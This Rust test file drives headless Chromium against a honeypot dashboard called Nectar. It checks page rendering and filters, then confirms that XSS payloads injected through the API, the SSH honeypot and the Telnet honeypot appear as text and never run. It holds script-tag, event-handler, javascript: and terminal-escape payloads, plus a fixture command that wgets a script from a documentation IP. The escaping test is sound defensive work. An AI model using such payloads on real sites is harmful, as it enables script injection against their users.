//! The web UI in a real browser: Debian's headless Chromium driven over WebDriver
//! logs in, visits every page, submits the filters and takes screenshots; then, with
//! hostile values stored through the API and the SSH and Telnet honeypots, proves that no
//! attacker script runs and the pages show the payloads as text.
//! Without chromium these tests skip locally and fail under `CI=true`.

use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::util::{Server, all_events, client, token};
use crate::webdriver::{Browser, chromium_available};

/// Laptop and phone viewports.
pub const LAPTOP: (u32, u32) = (1366, 900);
pub const PHONE: (u32, u32) = (390, 844);

pub fn screenshot_dir(test: &str) -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join("ui-screenshots")
        .join(test);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

pub fn admin_password(data: &std::path::Path) -> String {
    std::fs::read_to_string(data.join("initial-admin-password"))
        .unwrap()
        .trim()
        .to_owned()
}

fn post_events(url: &str, token: &str, events: &Value) {
    let response = client()
        .post(format!("{url}/api/v1/events"))
        .bearer_auth(token)
        .json(events)
        .send()
        .unwrap();
    assert_eq!(response.status(), 200, "{:?}", response.text());
}

/// Waits (at most 15 s) until the browser's URL satisfies `done`.
pub fn wait_for_url(browser: &Browser, done: impl Fn(&str) -> bool) -> String {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let url = browser.current_url();
        if done(&url) {
            return url;
        }
        assert!(
            Instant::now() < deadline,
            "browser stayed at {url}: {}",
            browser.find("body").text()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Logs in through the login form as `admin`.
pub fn log_in(browser: &Browser, url: &str, password: &str) {
    browser.goto(&format!("{url}/events"));
    let at = browser.current_url();
    assert!(
        at.contains("/login?next="),
        "not sent to the login form: {at}"
    );
    browser.find("input[name=username]").type_text("admin");
    browser.find("input[name=password]").type_text(password);
    browser
        .find("form[action='/login'] button[type=submit]")
        .click();
    wait_for_url(browser, |u| u.ends_with("/events") && !u.contains("/login"));
    assert_eq!(browser.title(), "Events · Nectar");
}

/// Console entries that say something went wrong (an error, a CSP violation).
pub fn console_problems(browser: &Browser) -> Vec<(String, String)> {
    browser
        .console()
        .into_iter()
        .filter(|(level, message)| {
            level == "SEVERE" || level == "WARNING" || message.contains("Content Security Policy")
        })
        .collect()
}

#[test]
fn browser_logs_in_visits_every_page_and_filters() {
    if !chromium_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let sensor = token(&data, "sensor", "analyst");
    let server = Server::start(&data, None);
    let url = server.url.clone();
    let mut events = Vec::new();
    for i in 0..30 {
        events.push(json!({"kind": "ssh.login.failed", "severity": "low",
            "src_ip": format!("198.51.100.{}", i % 5 + 1), "summary": format!("root/pass{i} refused"),
            "data": {"username": "root", "password": format!("pass{i}"), "session": format!("s{}", i % 3)}}));
    }
    events.push(json!({"kind": "ssh.login.success", "severity": "medium", "src_ip": "198.51.100.1",
        "summary": "root/123456 accepted", "data": {"username": "root", "password": "123456", "session": "s0"}}));
    events.push(json!({"kind": "ssh.command", "severity": "high", "src_ip": "198.51.100.1",
        "summary": "wget http://203.0.113.9/x.sh", "data": {"input": "wget http://203.0.113.9/x.sh", "session": "s0"}}));
    events.push(
        json!({"kind": "net.alarm", "severity": "critical", "summary": "syn rate above threshold",
        "data": {"stat": "perc_syn", "value": 0.93, "threshold": 0.4, "direction": "up"}}),
    );
    events.push(json!({"kind": "http.request", "severity": "info", "src_ip": "2001:db8::7", "summary": "GET /admin"}));
    post_events(&url, &sensor, &Value::Array(events));
    let command_event = all_events(&url, &sensor, "kind=ssh.command").remove(0);
    let command_id = command_event["id"].as_str().unwrap().to_owned();

    let shots = screenshot_dir("pages");
    let mut browser = Browser::start(LAPTOP.0, LAPTOP.1);
    log_in(&browser, &url, &admin_password(&data));

    // Every page, by its navigation link where there is one.
    let pages = [
        ("dashboard", "/", "Dashboard · Nectar"),
        ("events", "/events", "Events · Nectar"),
        (
            "event-detail",
            &format!("/events/{command_id}") as &str,
            "Event · Nectar",
        ),
        ("sessions", "/sessions", "Sessions · Nectar"),
        ("session-detail", "/sessions/s0", "Session · Nectar"),
        ("session-events", "/events?session=s0", "Events · Nectar"),
        ("detection", "/detection", "Detection · Nectar"),
        ("hosts", "/hosts", "Hosts · Nectar"),
        ("settings", "/settings", "Settings · Nectar"),
    ];
    for (name, path, title) in pages {
        browser.goto(&format!("{url}{path}"));
        assert_eq!(browser.title(), title, "{path}");
        assert!(
            browser.find_all("nav[aria-label=Main] a").len() >= 6,
            "{path} has the navigation"
        );
        let (w, h) = browser.save_screenshot(&shots.join(format!("laptop-{name}.png")));
        assert!(w >= 1000, "{name}: {w}x{h}");
        let problems = console_problems(&browser);
        assert!(problems.is_empty(), "{path}: {problems:?}");
    }
    // The navigation links lead to the pages.
    browser.goto(&format!("{url}/"));
    browser.find("nav a[href='/sessions']").click();
    wait_for_url(&browser, |u| u.ends_with("/sessions"));
    assert_eq!(browser.find_all("table.events tbody tr").len(), 3);
    // The session page: its transcript oldest first, then all its events.
    browser
        .find("table.events tbody tr a[href='/sessions/s0']")
        .click();
    wait_for_url(&browser, |u| u.ends_with("/sessions/s0"));
    let transcript = browser.find_all("table.transcript tbody tr");
    assert_eq!(transcript.len(), 12);
    assert!(transcript[0].text().contains("root/pass0 refused"));
    assert!(
        transcript[11]
            .text()
            .contains("wget http://203.0.113.9/x.sh")
    );
    assert!(
        browser
            .find("table.fields")
            .text()
            .contains("root / 123456")
    );
    browser.find("a[href='/events?session=s0']").click();
    wait_for_url(&browser, |u| u.ends_with("/events?session=s0"));
    assert_eq!(browser.find_all("table.events tbody tr").len(), 12);

    // Events filters: kind, severity, source and text from the form, in the URL.
    browser.goto(&format!("{url}/events"));
    assert_eq!(browser.find_all("table.events tbody tr").len(), 34);
    browser
        .find("select[name=kind] option[value='ssh.login.failed']")
        .click();
    browser.find("input[name=severity][value='low']").click();
    browser.find("input[name=src_ip]").type_text("198.51.100.2");
    // A prefix search (pass1, pass11, pass16); a bare word is a whole word.
    browser.find("input[name=q]").type_text("pass1*");
    browser.find("form.filters button[type=submit]").click();
    let filtered = wait_for_url(&browser, |u| u.contains("src_ip="));
    for part in [
        "kind=ssh.login.failed",
        "severity=low",
        "src_ip=198.51.100.2",
        "q=pass1",
    ] {
        assert!(filtered.contains(part), "{filtered} lacks {part}");
    }
    // From 198.51.100.2 come i = 1, 6, 11, 16, 21, 26; of those "pass1" is in the
    // summaries of i = 1, 11 and 16.
    let rows = browser.find_all("table.events tbody tr");
    assert_eq!(rows.len(), 3, "{filtered}");
    assert!(rows.iter().all(|r| r.text().contains("198.51.100.2")));
    browser.save_screenshot(&shots.join("laptop-events-filtered.png"));
    // A bad filter is said on the page, not a crash.
    browser.find("input[name=src_ip]").type_text("not-an-ip");
    browser.find("form.filters button[type=submit]").click();
    wait_for_url(&browser, |u| u.contains("src_ip=not-an-ip"));
    assert!(browser.find("p.error").text().contains("src_ip"));

    // The dashboard's time range: preset links and the custom form.
    browser.goto(&format!("{url}/"));
    browser.find(".ranges a[href='/?range=1h']").click();
    wait_for_url(&browser, |u| u.ends_with("/?range=1h"));
    assert!(browser.find("h1").text().contains("34 events"));
    browser.execute(
        "document.querySelector('input[name=since]').value = '2020-01-01T00:00';
         document.querySelector('input[name=until]').value = '2020-01-02T00:00';",
    );
    browser.find(".ranges form button[type=submit]").click();
    let custom = wait_for_url(&browser, |u| u.contains("since="));
    assert!(custom.contains("since=2020-01-01T00%3A00"), "{custom}");
    assert!(browser.find("h1").text().contains("0 events"));
    browser.save_screenshot(&shots.join("laptop-dashboard-custom-range.png"));

    // Phone-size window: the same pages still render without overflowing sideways.
    browser.resize(PHONE.0, PHONE.1);
    for (name, path, _) in pages {
        browser.goto(&format!("{url}{path}"));
        let (w, _) = browser.save_screenshot(&shots.join(format!("phone-{name}.png")));
        assert!(w < 1000, "{name}: the window did not shrink ({w})");
        let overflow = browser.execute(
            "return document.documentElement.scrollWidth > document.documentElement.clientWidth + 1",
        );
        assert_eq!(overflow, json!(false), "{path} scrolls sideways on a phone");
    }
    let listed: Vec<_> = std::fs::read_dir(&shots).unwrap().collect();
    assert!(listed.len() >= 2 * pages.len() + 2);
}

/// Values that would run script, load something or recolour a terminal if any page
/// used them unescaped. Each sets a marker a test can look for.
const PAYLOADS: [&str; 6] = [
    "<script>document.title='pwned1'</script>",
    "<img src=x onerror=document.title='pwned2'>",
    "\"><svg onload=document.title='pwned3'>",
    "javascript:document.title='pwned4'",
    "'><b id=pwned5>bold</b>",
    "\u{1b}[31mred\u{1b}[0m\u{7}",
];

/// The payload as the page must show it: control characters made visible.
fn shown(payload: &str) -> String {
    nectar_text_visible(payload)
}

/// Same rule as the pages' `pictured` (#25 item 8: ASCII controls as their
/// Unicode control pictures, other controls as `⟨U+NNNN⟩`), written out here so
/// the test does not trust the code it checks.
fn nectar_text_visible(s: &str) -> String {
    s.chars()
        .map(|c| match c as u32 {
            code @ 0..=0x1f => char::from_u32(0x2400 + code).unwrap().to_string(),
            0x7f => "\u{2421}".to_owned(),
            code if c.is_control() => format!("\u{27e8}U+{code:04X}\u{27e9}"),
            _ => c.to_string(),
        })
        .collect()
}

/// Runs OpenSSH against the honeypot: logs in and runs a hostile command.
fn openssh_exec(addr: &str, user: &str, password: &str, command: &str) {
    let port = addr.rsplit(':').next().unwrap();
    let _ = Command::new("timeout")
        .args(["30", "sshpass", "-p", password, "ssh"])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args(["-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"])
        .args(["-o", "PreferredAuthentications=password"])
        .args(["-p", port, "-l", user, "127.0.0.1", command])
        .output()
        .expect("run sshpass + ssh");
}

/// Tries a hostile user name and password with paramiko (OpenSSH's client refuses
/// to send user names with such characters; attack tools do not).
fn paramiko_login(addr: &str, user: &str, password: &str) {
    let (host, port) = addr.rsplit_once(':').unwrap();
    let script = r#"
import sys, paramiko
host, port, user, password = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
try:
    client.connect(host, port=port, username=user, password=password, timeout=20,
                   banner_timeout=20, auth_timeout=20, look_for_keys=False, allow_agent=False)
except paramiko.AuthenticationException:
    pass
client.close()
"#;
    let out = Command::new("timeout")
        .args([
            "60",
            python_with_paramiko().expect("paramiko"),
            "-c",
            script,
        ])
        .args([host, port, user, password])
        .output()
        .expect("run python3");
    assert!(
        out.status.success(),
        "paramiko: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Debian's python3 (with python3-paramiko), ahead of another python3 on the PATH.
fn python_with_paramiko() -> Option<&'static str> {
    ["/usr/bin/python3", "python3"].into_iter().find(|python| {
        Command::new(python)
            .args(["-c", "import paramiko"])
            .output()
            .is_ok_and(|o| o.status.success())
    })
}

fn ssh_tools_available() -> bool {
    let ok = ["sshpass", "ssh"].iter().all(|tool| {
        Command::new("which")
            .arg(tool)
            .output()
            .is_ok_and(|o| o.status.success())
    }) && python_with_paramiko().is_some();
    if !ok {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "ssh, sshpass and paramiko are needed (apt-get install openssh-client sshpass python3-paramiko)"
        );
        eprintln!("skipping: ssh, sshpass or python3-paramiko not installed");
    }
    ok
}

/// Sends `input` to the Telnet honeypot and reads until it closes (at most 20 s).
fn telnet(addr: std::net::SocketAddr, input: &[u8]) {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    stream.write_all(input).unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
}

/// What the page's DOM says about injected content: every one of these must be
/// empty or false.
const INJECTION_PROBE: &str = r#"
const hostile = [];
for (const el of document.querySelectorAll('*')) {
  for (const attr of el.getAttributeNames()) {
    if (attr.startsWith('on')) hostile.push(el.tagName + '[' + attr + ']');
    const v = (el.getAttribute(attr) || '').trim().toLowerCase();
    if ((attr === 'href' || attr === 'src' || attr === 'action') && v.startsWith('javascript:'))
      hostile.push(el.tagName + '[' + attr + '=javascript:]');
  }
}
return {
  title: document.title,
  scripts: document.scripts.length,
  frames: document.querySelectorAll('iframe, object, embed').length,
  images: document.querySelectorAll('img').length,
  marker: document.getElementById('pwned5') !== null,
  hostile: hostile,
};
"#;

#[test]
fn browser_runs_no_attacker_script_and_shows_payloads_as_text() {
    if !chromium_available() || !ssh_tools_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    let sensor = token(&data, "sensor", "analyst");
    // A hostile sensor name: tokens' sensor names are plain (see `valid_name`),
    // the configured one is any text, so it comes from there.
    let config = dir.path().join("nectar.toml");
    std::fs::write(
        &config,
        "sensor_name = \"<script>document.title='pwned11'</script>-sensor-x\"\n",
    )
    .unwrap();
    let server = Server::start(&data, Some(&config));
    let url = server.url.clone();

    // Through the API: every field a page shows.
    let mut events = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let session = format!("xss-{i}");
        events.push(
            json!({"kind": "ssh.login.success", "severity": "high", "src_ip": "203.0.113.66",
            "summary": payload,
            "data": {"username": payload, "password": payload, "session": session}}),
        );
        events.push(
            json!({"kind": "ssh.command", "severity": "high", "src_ip": "203.0.113.66",
            "summary": payload, "data": {"input": payload, "session": session, "url": payload}}),
        );
        events.push(json!({"kind": "http.request", "severity": "medium", "src_ip": "203.0.113.67",
            "summary": payload, "data": {"path": payload, "user_agent": payload, "referer": payload}}));
    }
    // The honeypots' sensor name (longer than the table's cell) is cut there and
    // whole on the event pages.
    post_events(&url, &sensor, &Value::Array(events));

    // Through the SSH honeypot with a real client: hostile user names, passwords and
    // commands (the ESC byte travels as is).
    let ssh_addr = server.ssh_addr.clone().expect("the SSH honeypot runs");
    paramiko_login(
        &ssh_addr,
        "<img src=x onerror=document.title='pwned6'>",
        "\"><svg onload=document.title='pwned7'>",
    );
    openssh_exec(
        &ssh_addr,
        "root",
        "123456",
        "echo '<script>document.title=\"pwned8\"</script>' \u{1b}[31m",
    );
    // And the Telnet honeypot, the way bots talk to it: lines over a raw socket.
    let telnet_addr = server.telnet.expect("the Telnet honeypot runs");
    telnet(
        telnet_addr,
        b"<svg/onload=document.title='pwned9'>\r\n\x1b[5mpw\r\n\x04",
    );
    telnet(
        telnet_addr,
        b"root\r\n123456\r\necho \"<iframe src=javascript:document.title='pwned10'>\" \x1b]0;title\x07\r\nexit\r\n",
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    let (failed, exec) = loop {
        let failed = all_events(&url, &sensor, "kind=ssh.login.failed");
        let exec = all_events(&url, &sensor, "kind=ssh.exec");
        let telnet_done = all_events(&url, &sensor, "kind=telnet.command").len() >= 2
            && !all_events(&url, &sensor, "kind=telnet.login.failed").is_empty();
        if !failed.is_empty() && !exec.is_empty() && telnet_done {
            break (failed, exec);
        }
        assert!(
            Instant::now() < deadline,
            "the honeypot's events did not arrive"
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(
        failed[0]["data"]["username"]
            .as_str()
            .unwrap()
            .contains("onerror")
    );
    assert!(
        exec[0]["data"]["input"]
            .as_str()
            .unwrap()
            .contains("\u{1b}[31m")
    );
    let honeypot_session = exec[0]["data"]["session"].as_str().unwrap().to_owned();

    let browser = Browser::start(LAPTOP.0, LAPTOP.1);
    log_in(&browser, &url, &admin_password(&data));
    let mut pages: Vec<String> = vec![
        "/".into(),
        "/?range=all".into(),
        "/events".into(),
        "/events?q=pwned".into(),
        "/sessions".into(),
        "/settings".into(),
        format!("/events?session={honeypot_session}"),
        format!("/sessions/{honeypot_session}"),
    ];
    for i in 0..PAYLOADS.len() {
        pages.push(format!("/sessions/xss-{i}"));
    }
    for event in all_events(&url, &sensor, "") {
        pages.push(format!("/events/{}", event["id"].as_str().unwrap()));
    }
    let shots = screenshot_dir("xss");
    let mut seen_text = String::new();
    for (n, path) in pages.iter().enumerate() {
        browser.goto(&format!("{url}{path}"));
        let probe = browser.execute(INJECTION_PROBE);
        assert!(
            probe["title"].as_str().unwrap().ends_with("· Nectar")
                && !probe["title"].as_str().unwrap().contains("pwned"),
            "{path}: {probe}"
        );
        assert_eq!(probe["scripts"], 0, "{path}: {probe}");
        assert_eq!(probe["frames"], 0, "{path}: {probe}");
        assert_eq!(probe["images"], 0, "{path}: {probe}");
        assert_eq!(probe["marker"], false, "{path}: {probe}");
        assert_eq!(probe["hostile"], json!([]), "{path}: {probe}");
        let problems = console_problems(&browser);
        assert!(problems.is_empty(), "{path}: {problems:?}");
        if n < 7 {
            browser.save_screenshot(&shots.join(format!("page-{n}.png")));
        }
        seen_text.push_str(&browser.find("main").text());
        seen_text.push('\n');
    }
    // Every payload reached a page, as the text it is.
    for payload in PAYLOADS {
        let text = shown(payload);
        assert!(seen_text.contains(&text), "{text:?} is not shown as text");
    }
    for text in [
        "<img src=x onerror=document.title='pwned6'>",
        "\"><svg onload=document.title='pwned7'>",
        "<script>document.title=\"pwned8\"</script>",
        "\u{241b}[31m",
        "<svg/onload=document.title='pwned9'>",
        "<iframe src=javascript:document.title='pwned10'>",
        "<script>document.title='pwned11'</script>-sensor-x",
    ] {
        assert!(seen_text.contains(text), "{text:?} is not shown as text");
    }
    // No raw terminal escape made it into the DOM.
    assert!(!seen_text.contains('\u{1b}'));
    // The Telnet shell's session page names its recording.
    let telnet_session = all_events(&url, &sensor, "kind=telnet.command")[0]["data"]["session"]
        .as_str()
        .unwrap()
        .to_owned();
    browser.goto(&format!("{url}/sessions/{telnet_session}"));
    let fields = browser.find("table.fields").text();
    assert!(fields.contains("Recording"), "{fields}");
    let transcript = browser.find("table.transcript").text();
    assert!(
        transcript.contains("<iframe src=javascript:document.title='pwned10'>"),
        "{transcript}"
    );
    // A value too long for its cell is cut, and the whole is one click away.
    browser.goto(&format!("{url}/sessions"));
    let long = "<img src=x onerror=document.title='pwned2'>";
    let cut = browser
        .find_all("details.cut")
        .into_iter()
        .find(|d| {
            d.text()
                .starts_with("<img src=x onerror=document.title='pwn")
        })
        .expect("the long user name is cut");
    assert!(cut.text().ends_with('…'), "{}", cut.text());
    cut.click();
    assert!(cut.text().contains(long), "{}", cut.text());
    // The hostile summary is in the table cell as text, not markup.
    browser.goto(&format!("{url}/events?q=pwned1%27%3C"));
    let cells = browser.find_all("table.events td.summary");
    assert!(!cells.is_empty());
    assert!(
        cells
            .iter()
            .all(|c| c.text() == "<script>document.title='pwned1'</script>")
    );
}
